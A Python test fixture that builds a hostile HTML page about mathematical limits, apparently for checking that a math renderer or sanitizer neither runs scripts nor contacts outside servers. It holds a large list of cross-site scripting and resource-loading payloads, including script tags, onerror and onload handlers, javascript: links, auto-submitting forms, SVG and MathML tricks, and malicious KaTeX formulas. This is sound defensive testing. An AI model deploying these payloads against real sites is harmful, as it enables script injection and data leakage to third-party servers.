"""A mathematical page that tries everything to run, to load, to submit and to lead elsewhere."""

from __future__ import annotations

__all__ = ["ATTACKS", "HOSTILE_URL", "hostile_page"]

HOSTILE_URL = "https://hostile.example/limits?q=%3Cscript%3Ealert(1)%3C/script%3E\"'><img/src=x>&x"

ATTACKS = (
    "<script>document.title='owned'; fetch('{c}/script')</script>",
    "<script src='{c}/external.js'></script>",
    "<script type='text/x' >x</script ><script>top.location='{c}/top'</script>",
    "<meta http-equiv=refresh content='0;url={c}/refresh'>",
    "<base href='{c}/base/'><a href='relative'>relative link</a>",
    "<img src='{c}/image.png' onerror=\"fetch('{c}/onerror')\" alt='an image'>",
    "<img src=x onerror=\"document.title='owned'\" srcset='{c}/srcset 2x'>",
    "<a href=\"javascript:fetch('{c}/javascript')\" id=trap>a link of script</a>",
    "<a href='{c}/link' ping='{c}/ping' target=_top>a link elsewhere</a>",
    "<style>@import url('{c}/import.css'); body {{ background: url({c}/background) }}</style>",
    "<style>@font-face {{ font-family: f; src: url({c}/font) }} p {{ font-family: f }}</style>",
    "<link rel=stylesheet href='{c}/sheet.css'><link rel=preconnect href='{c}/preconnect'>",
    "<link rel=prefetch href='{c}/prefetch'><link rel=icon href='{c}/icon'>",
    "<p style=\"background-image: url('{c}/style')\">styled</p>",
    "<table background='{c}/table'><tr><td background='{c}/cell'>cell</td></tr></table>",
    "<form action='{c}/form' method=post><input name=q autofocus onfocus=\"fetch('{c}/focus')\">"
    "<button id=go>send</button></form><script>document.forms[0].submit()</script>",
    "<iframe src='{c}/iframe'></iframe><iframe srcdoc=\"<script>fetch('{c}/srcdoc')</script>\">"
    "</iframe>",
    "<object data='{c}/object'></object><embed src='{c}/embed'><applet code='{c}/applet'></applet>",
    "<svg onload=\"fetch('{c}/svg')\"><image href='{c}/svg-image'/><use href='{c}/use#x'/>"
    "<script>fetch('{c}/svg-script')</script><a xlink:href='javascript:alert(1)'><text>t</text></a>"
    "<foreignObject><iframe src='{c}/foreign'></iframe></foreignObject>"
    "<animate attributeName=href values='javascript:alert(1)'/></svg>",
    "<math><maction actiontype='statusline#{c}/maction'><mi xlink:href='javascript:alert(1)' "
    "href='{c}/mathml'>x</mi></maction><annotation-xml encoding='text/html'>"
    "<img src='{c}/annotation' onerror='alert(1)'></annotation-xml></math>",
    "<video src='{c}/video' poster='{c}/poster' autoplay></video><audio src='{c}/audio'></audio>",
    "<details open ontoggle=\"fetch('{c}/toggle')\"><summary>s</summary></details>",
    '<noscript><p title="</noscript><img src={c}/noscript onerror=alert(1)>"></noscript>',
    "<template><img src='{c}/template'></template><portal src='{c}/portal'></portal>",
    "<div><!--><img src={c}/comment>--><p>after a comment</p></div>",
    "<xmp><img src='{c}/xmp'></xmp><plaintext-x></plaintext-x>",
    "<body onload=\"fetch('{c}/onload')\" background='{c}/body'>",
)
"""Each with ``{c}`` for the address of a server that must never be asked."""

_PROSE = (
    "Let f be a continuous function on the interval and let its integral be finite. Then the "
    "sequence of its averages converges, and the limit is the value that the theorem gives. We "
    "prove this by induction on the number of steps; the proof needs only the mean value theorem. "
)

# What a formula can try: KaTeX must not be told to trust it.
_FORMULAS = (
    r"\href{javascript:alert(1)}{x}",
    r"\includegraphics{CANARY/formula.png}",
    r"\htmlStyle{background:url(CANARY/htmlstyle)}{x}",
    r"\url{CANARY/url}",
    r"\frac{</span><img src=CANARY/escape onerror=alert(1)>}{2}",
    r"\def\a{\a\a}\a",
)


def hostile_page(canary: str) -> bytes:
    """The page, aimed at a server."""
    attacks = "\n".join(attack.format(c=canary) for attack in ATTACKS)
    formulas = " ".join(f"<p>We have \\({formula}\\).</p>" for formula in _FORMULAS)
    article = "".join(
        f"<p>{number}. {_PROSE} Here \\(a_{{{number}}} = \\frac{{{number}}}{{n^2}}\\).</p>"
        for number in range(8)
    )
    spelled = "&lt;script&gt;fetch('CANARY/spelled')&lt;/script&gt;"
    html = (
        f"<html><head><title>Limits</title><script src='/MathJax.js'></script></head><body>"
        f"<article><h1>Limits and averages {spelled}</h1>{article}{formulas}<p>{spelled}</p>"
        f"</article>{attacks}</body></html>"
    )
    return html.replace("CANARY", canary).encode()
